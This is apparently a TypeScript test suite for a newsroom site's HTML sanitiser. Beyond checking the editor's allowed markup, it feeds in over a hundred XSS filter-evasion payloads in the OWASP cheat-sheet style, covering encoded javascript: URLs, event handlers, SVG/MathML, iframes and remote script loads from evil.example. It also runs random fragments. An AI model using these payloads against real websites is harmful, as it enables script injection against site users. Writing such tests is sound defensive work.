// The stored-HTML gate against script injection: payloads in the style of the OWASP XSS Filter
// Evasion Cheat Sheet and random fragments, each output parsed as a browser parses it (jsdom).
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { JSDOM } from 'jsdom';
import { createTranslator } from '../../i18n/index.ts';
import { safeEmbedCards } from './embeds.ts';
import { sanitizeBody } from './sanitize.ts';

/** The markup contract of the newsroom's editor: it must come back exactly as sent. */
const CONTRACT = [
  '<p>A paragraph with <strong>bold</strong>, <em>italic</em>, <u>underlined</u> and <s>struck</s> text.</p>',
  '<h2>Heading</h2><h3>Smaller</h3><h4>Smallest</h4>',
  '<ul><li>One</li><li>Two</li></ul><ol><li>First</li></ol><blockquote><p>Quoted.</p></blockquote>',
  '<p><a href="/en/news/1/local-story">Our story</a></p>',
  '<figure class="story-image"><img src="/media/2026-11-30-0a1b2c3d4e5f-960.jpg" alt="Alt text" width="960" height="640" data-media-id="12"><figcaption>Caption text <small class="credit">Credit text</small></figcaption></figure>',
  '<figure class="story-audio"><audio controls preload="none" src="https://stream.example.org/clip.mp3"></audio><figcaption>Caption</figcaption></figure>',
  '<figure class="story-audio"><audio controls preload="none" src="/media/2026-11-30-0a1b2c3d4e5f.mp3"></audio></figure>',
  '<figure class="story-embed" data-provider="youtube" data-embed-url="https://www.youtube.com/watch?v=M7lc1UVf-VE"><a href="https://www.youtube.com/watch?v=M7lc1UVf-VE">https://www.youtube.com/watch?v=M7lc1UVf-VE</a><figcaption>optional caption</figcaption></figure>',
  '<figure class="story-embed" data-provider="x" data-embed-url="https://x.com/NASA/status/1760000000000000000"><a href="https://x.com/NASA/status/1760000000000000000">https://x.com/NASA/status/1760000000000000000</a></figure>',
  '<figure class="story-embed" data-provider="instagram" data-embed-url="https://www.instagram.com/p/C1a2B3c4D5e/"><a href="https://www.instagram.com/p/C1a2B3c4D5e/">https://www.instagram.com/p/C1a2B3c4D5e/</a></figure>',
  '<figure class="story-embed" data-provider="facebook" data-embed-url="https://www.facebook.com/watch/?v=1234567890"><a href="https://www.facebook.com/watch/?v=1234567890">https://www.facebook.com/watch/?v=1234567890</a><figcaption>A video</figcaption></figure>',
];

/** Every tag a stored body may hold, and the card the reader page adds (a div). */
const ALLOWED_TAGS = new Set(
  'p h2 h3 h4 ul ol li blockquote figure figcaption img audio strong em b i u s sub sup a br hr code pre table thead tbody tr th td caption abbr cite q small span div'.split(
    ' ',
  ),
);
const FORBIDDEN_TAGS = ['script', 'style', 'iframe', 'object', 'embed', 'frame', 'base', 'meta', 'link', 'form', 'svg'];
const SAFE_SCHEMES = new Set(['http:', 'https:', 'mailto:', 'tel:']);
const EMBED_HOSTS = new Set(
  'www.youtube.com youtube.com m.youtube.com youtu.be x.com www.x.com mobile.x.com twitter.com www.twitter.com mobile.twitter.com www.instagram.com instagram.com www.facebook.com facebook.com m.facebook.com'.split(
    ' ',
  ),
);
const FRAME_ORIGINS = new Set([
  'https://www.youtube-nocookie.com',
  'https://platform.twitter.com',
  'https://www.instagram.com',
  'https://www.facebook.com',
]);
const SITE = 'https://warta.example';
const PAGE = `${SITE}/en/news/1/story`;
/** Attributes a browser reads as an address (the last two are the embed card's). */
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'cite',
  'action',
  'formaction',
  'background',
  'poster',
  'data',
  'xlink:href',
  'data-embed-url',
  'data-embed-src',
]);

/** An address as the page's browser resolves it, or undefined when it is none. */
function resolve(value: string): URL | undefined {
  try {
    return new URL(value, PAGE);
  } catch {
    return undefined;
  }
}

const { document } = new JSDOM('<!doctype html><body></body>').window;
const en = createTranslator('en', 'en-GB');

/** What is wrong with HTML as a reader page would hold it: an empty list when it is safe. */
function problemsOf(html: string): string[] {
  const problems: string[] = [];
  // Parsed as a browser parses a body: what reaches the DOM is what could run.
  const host = document.createElement('div');
  host.innerHTML = html;
  for (const element of host.querySelectorAll('*')) {
    const tag = element.localName;
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`<${tag}> in ${element.namespaceURI}`);
    if (!ALLOWED_TAGS.has(tag)) problems.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on')) problems.push(`${tag}[${name}]`);
      if (name === 'style' || name === 'srcdoc' || name === 'srcset') problems.push(`${tag}[${name}]`);
      if (!URL_ATTRIBUTES.has(name)) continue;
      const url = resolve(value);
      if (!url) {
        problems.push(`${tag}[${name}=${value}] is no URL`);
        continue;
      }
      // A relative address must stay on this site: "//host" and "\\host" lead elsewhere.
      const isAbsolute = URL.canParse(value);
      if (!isAbsolute && url.origin !== SITE) problems.push(`${tag}[${name}] to another host: ${value}`);
      if (name === 'src') {
        const isMedia = !isAbsolute && url.pathname.startsWith('/media/') && value.startsWith('/media/');
        const isRemoteAudio = tag === 'audio' && isAbsolute && url.protocol === 'https:';
        if (!isMedia && !isRemoteAudio) problems.push(`${tag}[src=${value}]`);
      } else if (name === 'data-embed-url') {
        if (url.protocol !== 'https:' || !EMBED_HOSTS.has(url.hostname)) problems.push(`${tag}[${name}=${value}]`);
      } else if (name === 'data-embed-src') {
        if (!FRAME_ORIGINS.has(url.origin)) problems.push(`${tag}[${name}=${value}]`);
      } else if (!SAFE_SCHEMES.has(url.protocol)) problems.push(`${tag}[${name}=${value}]`);
    }
  }
  for (const tag of FORBIDDEN_TAGS) if (host.getElementsByTagName(tag).length) problems.push(`<${tag}> found`);
  return problems;
}

/** Asserts that the stored body, and the reader page's version of it, hold nothing that could run. */
function assertSafe(input: string): string {
  const stored = sanitizeBody(input);
  assert.deepEqual(problemsOf(stored), [], `stored ${JSON.stringify(stored)} from ${JSON.stringify(input)}`);
  const shown = safeEmbedCards(stored, en);
  assert.deepEqual(problemsOf(shown), [], `shown ${JSON.stringify(shown)} from ${JSON.stringify(input)}`);
  return stored;
}

const MEDIA = '/media/2026-11-30-0a1b2c3d4e5f-960.jpg';
const YT = 'https://www.youtube.com/watch?v=M7lc1UVf-VE';
const embed = (url: string, provider = 'youtube') =>
  `<figure class="story-embed" data-provider="${provider}" data-embed-url="${url}"><a href="${url}">post</a></figure>`;

/** Attacks in the style of the OWASP XSS Filter Evasion Cheat Sheet. */
const PAYLOADS: readonly string[] = [
  // Script elements in every casing and broken form.
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
  '<SCRIPT/SRC="http://evil.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0000>alert(1)</script>',
  '<script >alert(1)</script >',
  '</script><script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/xss.js?< B >',
  '<SCRIPT a=">" SRC="http://evil.example/xss.js"></SCRIPT>',
  '<script>/*</script><script>*/alert(1)</script>',
  // Images: handlers, our own media with a handler, and addresses that are not ours.
  `<img src=${MEDIA} onerror=alert(1)>`,
  `<img src="${MEDIA}" onerror="alert(1)" onload="alert(2)">`,
  `<img src="${MEDIA}"onerror="alert(1)">`,
  `<img/src=${MEDIA}/onerror=alert(1)>`,
  '<img src=/media/x onerror=alert(1)>',
  `<img src=${MEDIA} alt="x" onerror="alert(1)"//>`,
  `<img src="${MEDIA}" width="960 onload=alert(1)" height="1e3" data-media-id="-1">`,
  `<img src="${MEDIA}" srcset="javascript:alert(1) 1x" dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">`,
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<img src="/media/../../etc/passwd">',
  '<img src="/media/x/../../admin.jpg">',
  '<img src="//evil.example/media/x.jpg">',
  '<img src="/media//evil.example/x.jpg">',
  '<img src="/media/x.jpg?track=1">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="/MEDIA/x.jpg"><img src="\\media\\x.jpg"><img src="/media/x.jpg\n">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  // Links: schemes hidden by entities, tabs, newlines, NUL, control characters and case.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="javas&Tab;cript:alert(1)">x</a><a href="javas&NewLine;cript:alert(1)">y</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a>',
  '<a href=" javascript:alert(1)">x</a><a href="\u0001javascript:alert(1)">y</a>',
  '<a href="javascript&colon;alert(1)">x</a><a href="javascript&#58alert(1)">y</a>',
  '<a href="java&#8203;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a><a href="VBScript:msgbox(1)">y</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a><a href="\\\\evil.example">y</a>',
  '<a href="https://example.org" onclick="alert(1)" onmouseover=alert(2)>x</a>',
  '<a href="https://example.org"\u0000onclick=alert(1)>x</a>',
  '<a title="x" href=https://example.org/"onmouseover="alert(1)">x</a>',
  '<a href="https://example.org">x</a href="javascript:alert(1)">',
  // Styles: attributes, elements, expression() and imports.
  '<a href="https://example.org" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<P STYLE="behavior: url(xss.htc);">x</P>',
  "<style>@import 'http://evil.example/xss.css';</style>",
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<div style="background-image: url(javascript:alert(\'XSS\'))">x</div>',
  '<style>p{}</style><p>after</p>',
  // SVG and MathML.
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  // Frames, plugins and document-level elements.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  `<iframe src="https://www.youtube-nocookie.com/embed/M7lc1UVf-VE"></iframe>`,
  '<object data="javascript:alert(1)"></object><object type="text/x-scriptlet" data="http://evil.example/x.html"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button><input onfocus=alert(1) autofocus></form>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>x</details><body onload=alert(1)>',
  '<video src=x onerror=alert(1)></video><source onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<q cite="javascript:alert(1)">x</q><blockquote cite="javascript:alert(1)">y</blockquote>',
  '<br size="&{alert(\'XSS\')}">',
  // The figure, audio and embed markup with hostile attributes.
  `<figure class="story-image" onclick="alert(1)" style="x"><img src="${MEDIA}" onerror="alert(1)"><figcaption onclick=alert(1)>c <small class="credit" onclick=alert(1)>d</small></figcaption></figure>`,
  '<figure class="story-audio"><audio src="/media/a.mp3" onerror="alert(1)" onplay=alert(2) autoplay></audio></figure>',
  '<audio controls src="javascript:alert(1)"></audio><audio src="data:audio/mp3;base64,AAAA"></audio>',
  '<audio src="https://stream.example.org/a.mp3"><source src="javascript:alert(1)"><track src="javascript:alert(1)"></audio>',
  '<audio src="//evil.example/a.mp3"></audio><audio src="http://stream.example.org/a.mp3"></audio>',
  embed('javascript:alert(1)'),
  embed('&#x6A;avascript:alert(1)'),
  embed('https://youtube.com.evil.example/watch?v=M7lc1UVf-VE'),
  embed('https://www.youtube.com@evil.example/watch?v=M7lc1UVf-VE'),
  embed('https://www.you\ttube.com/watch?v=M7lc1UVf-VE'),
  embed('https://www.youtube.com/watch?v=M7lc1UVf-VE&#x22; onload=&#x22;alert(1)'),
  embed('data:text/html,<script>alert(1)</script>'),
  embed(YT, 'x'),
  embed(YT, 'constructor'),
  `<figure class="story-embed story-image" data-provider="youtube" data-embed-url="${YT}" data-embed-src="javascript:alert(1)" onclick=alert(1)><a href="${YT}" onclick=alert(1)>x</a></figure>`,
  '<div class="story-embed__card" data-embed-src="https://evil.example/" data-embed-label="x">y</div>',
  `<figure class="story-embed" data-provider="youtube" data-embed-url="${YT}"><figure class="story-embed" data-provider="x" data-embed-url="https://x.example/">`,
  // Quotes that try to break out of an attribute.
  '<a href="https://example.org/" title=\'"><script>alert(1)</script>\'>x</a>',
  `<img src="${MEDIA}" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">`,
  `<img src="${MEDIA}" alt='x" onerror="alert(1)'>`,
  '<span lang=\'en" onclick="alert(1)\' dir="rtl">x</span>',
  // Comments, CDATA, raw-text elements, nesting left open.
  '<!--<script>alert(1)</script>-->',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p>x<!--',
  '<p><p><p><a href="javascript:alert(1)"><strong><em>deep',
  '<ul><li><blockquote><figure><figcaption><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea><title><script>alert(1)</script></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<select><option><script>alert(1)</script></option></select>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<a href="https://example.org/?q=<script>">x</a>',
];

describe('sanitizeBody: the editor contract', () => {
  it('gives the contract markup back exactly as sent, and it is safe', () => {
    for (const html of CONTRACT) {
      assert.equal(sanitizeBody(html), html);
      assert.deepEqual(problemsOf(html), [], html);
    }
    const body = CONTRACT.join('\n');
    assert.equal(sanitizeBody(body), body);
  });

  it('keeps what the contract allows and drops the rest of an element', () => {
    assert.equal(
      sanitizeBody(
        `<img src="${MEDIA}" alt="A" width="960px" height="-4" data-media-id="x1" loading="eager" class="big" title="t">`,
      ),
      `<img src="${MEDIA}" alt="A">`,
    );
    assert.equal(sanitizeBody('<img src="/media/a.jpg" alt="">'), '<img src="/media/a.jpg" alt="">');
    // Nothing is fetched before the reader presses play; metadata only from our own media.
    assert.equal(
      sanitizeBody('<audio src="https://stream.example.org/a.mp3" preload="auto" autoplay loop>'),
      '<audio controls preload="none" src="https://stream.example.org/a.mp3"></audio>',
    );
    assert.equal(
      sanitizeBody('<audio src="/media/a.mp3" preload="metadata">'),
      '<audio controls preload="metadata" src="/media/a.mp3"></audio>',
    );
    assert.equal(sanitizeBody('<figure class="wide story-image">x</figure>'), '<figure>x</figure>');
    assert.equal(sanitizeBody('<p><small class="credit big">c</small></p>'), '<p><small class="credit">c</small></p>');
    assert.equal(sanitizeBody('<br/><hr />'), '<br><hr>');
  });

  it('turns an embed whose URL is no post of its provider into a plain link, losing nothing', () => {
    const url = 'https://www.youtube.com.evil.example/watch?v=M7lc1UVf-VE';
    assert.equal(
      sanitizeBody(`${embed(url)}`.replace('</figure>', '<figcaption>Caption</figcaption></figure>')),
      `<figure><a href="${url}" rel="noopener noreferrer">post</a><figcaption>Caption</figcaption></figure>`,
    );
    // A URL as pasted is stored as a browser writes it, then checked.
    assert.equal(
      sanitizeBody(embed('https://WWW.YouTube.com/watch?v=M7lc1UVf-VE')),
      `<figure class="story-embed" data-provider="youtube" data-embed-url="${YT}"><a href="https://WWW.YouTube.com/watch?v=M7lc1UVf-VE" rel="noopener noreferrer">post</a></figure>`,
    );
    // A provider that does not match its URL is no embed either.
    assert.equal(sanitizeBody(embed(YT, 'x')), `<figure><a href="${YT}" rel="noopener noreferrer">post</a></figure>`);
  });

  it("keeps the embed's own link as written, and marks every other external link", () => {
    const html = `<figure class="story-embed" data-provider="youtube" data-embed-url="${YT}"><a href="https://example.org/">other</a><figcaption><a href="${YT}">again</a></figcaption></figure>`;
    assert.equal(
      sanitizeBody(html),
      `<figure class="story-embed" data-provider="youtube" data-embed-url="${YT}"><a href="https://example.org/" rel="noopener noreferrer">other</a><figcaption><a href="${YT}" rel="noopener noreferrer">again</a></figcaption></figure>`,
    );
  });
});

describe('sanitizeBody: script injection', () => {
  it(`leaves nothing that could run from ${PAYLOADS.length} cheat-sheet payloads`, () => {
    assert.ok(PAYLOADS.length >= 60);
    for (const payload of PAYLOADS) assertSafe(payload);
  });

  it('takes event handlers and style off every tag it keeps', () => {
    for (const tag of ALLOWED_TAGS) {
      const stored = assertSafe(
        `<${tag} onclick="alert(1)" onmouseover=alert(2) OnFocus='alert(3)' style="color:red" class="x">text</${tag}>`,
      );
      assert.doesNotMatch(stored, /alert|style|class/i, tag);
    }
  });

  it('makes no card of a figure that only claims to be an embed', () => {
    for (const payload of PAYLOADS.filter((p) => p.includes('story-embed'))) {
      const shown = safeEmbedCards(sanitizeBody(payload), en);
      for (const src of shown.matchAll(/data-embed-src="([^"]*)"/g))
        assert.equal(src[1], 'https://www.youtube-nocookie.com/embed/M7lc1UVf-VE', payload);
    }
    assert.doesNotMatch(sanitizeBody(embed('https://www.youtube.com@evil.example/watch?v=M7lc1UVf-VE')), /story-embed/);
    assert.doesNotMatch(sanitizeBody(embed('https://youtube.com.evil.example/watch?v=M7lc1UVf-VE')), /story-embed/);
  });

  it('never yields a script, a handler, a style or a foreign address from random fragments', () => {
    // Pieces of tags, attributes, addresses and text, joined at random: most are broken HTML.
    const pieces = [
      ...['<p>', '</p>', '<a ', '</a>', '<img ', '<audio ', '</audio>', '<figure ', '</figure>', '<figcaption>'],
      ...['<small ', '<script>', '</script>', '<style>', '<svg ', '<math>', '<iframe ', '<!--', '-->', '<![CDATA['],
      ...['<noscript>', '<textarea>', '<option>', '<', '>', '/>', '/', ' ', '\t', '\n', '\u0000', '=', '"', "'", '`'],
      ...['href=', 'src=', 'srcdoc=', 'style=', 'class=', 'onerror=', 'onclick=', 'data-provider=', 'data-embed-url='],
      ...['controls ', 'preload=', 'width=', 'data-media-id=', 'story-embed', 'story-image', 'credit', 'youtube', 'x'],
      ...['javascript:', 'jav&#x09;ascript:', '&#x6A;avascript:', 'vbscript:', 'data:', 'alert(1)', 'expression('],
      ...['/media/', '..', '//', 'evil.example/', 'https://', 'https://www.youtube.com/watch?v=M7lc1UVf-VE'],
      ...['https://x.com/a/status/1', '@evil.example', '.evil.example', 'x.jpg', '12', '&amp;', '&quot;', 'text'],
    ];
    let seed = 7;
    const next = () => (seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) / 2 ** 32;
    for (let i = 0; i < 6_000; i++) {
      const html = Array.from(
        { length: 1 + Math.floor(next() * 24) },
        () => pieces[Math.floor(next() * pieces.length)],
      ).join('');
      // Checked as the browser parses it: the sanitiser's parser does not build the HTML tree
      // (it may write <p> inside <p>), so its output is judged by what a browser makes of it.
      assertSafe(html);
    }
  });
});
